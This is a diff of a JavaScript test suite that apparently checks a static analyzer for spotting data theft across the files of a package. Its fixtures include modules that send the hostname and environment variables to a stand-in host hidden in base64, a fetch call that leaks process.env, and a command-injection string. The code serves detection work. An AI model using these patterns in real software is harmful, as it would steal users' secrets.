@@ -347,20 +347,40 @@ describe("extractFacts on code that is split over files", () => {
     expect(found?.map(({ argument }) => argument)).toEqual(["id > /tmp/x; echo done"]);
   });
 
-  test("leaves modules alone that do nothing that matters, and those of ECMAScript", () => {
+  test("reads ES modules together, with what they hand on, load later and keep in data", () => {
+    const facts = factsOf({
+      "package.json": { type: "module", main: "index.js" },
+      "index.js":
+        "import { collect } from './read/index.js';\nimport send, { at as where } from './send.mjs';\nawait send(where, collect());\nexport const add = (a, b) => a + b;",
+      "read/index.js": "export * from './all.js';",
+      "read/all.js":
+        "import os from 'node:os';\nexport function collect() {\n  return os.hostname() + JSON.stringify(process.env);\n}",
+      "send.mjs":
+        "import d from './d.json' with { type: 'json' };\nexport const at = Buffer.from(d.a, 'base64').toString();\nexport default async (host, body) => (await import('https')).request({ host, method: 'POST' }).end(body);",
+      "d.json": JSON.stringify({ a: Buffer.from("in.example").toString("base64") }),
+    });
+    const sent = sourceOf(facts, "send.mjs")?.facts.effects.find(({ kind }) => kind === "network");
+
+    expect(sent).toMatchObject({ runs: "load", argument: "https://in.example", location: { line: 3 } });
+    expect(sent?.sources).toEqual(expect.arrayContaining(["environment", "host-facts"]));
+  });
+
+  test("leaves modules alone that do nothing that matters, and those that it cannot read", () => {
     const plain = factsOf({
       "package.json": { main: "a.js" },
       "a.js": "require('./b')",
       "b.js": "module.exports = 1",
     });
-    const module = factsOf({
+    const broken = factsOf({
       "package.json": { main: "a.mjs" },
-      "a.mjs": "import './b.mjs'",
-      "b.mjs": "fetch('https://a.example')",
+      "a.mjs": "import { b } from './b.mjs'; b(process.env)",
+      "b.mjs": "export const b = (x) => fetch('https://a.example/?' + x); export {",
     });
 
     expect(plain.sources).toEqual([]);
-    expect(sourceOf(module, "b.mjs")?.facts.effects.length).toBe(1);
+    expect(sourceOf(broken, "b.mjs")?.facts.effects.flatMap(({ sources }) => sources)).not.toContain(
+      "environment",
+    );
   });
 });
 
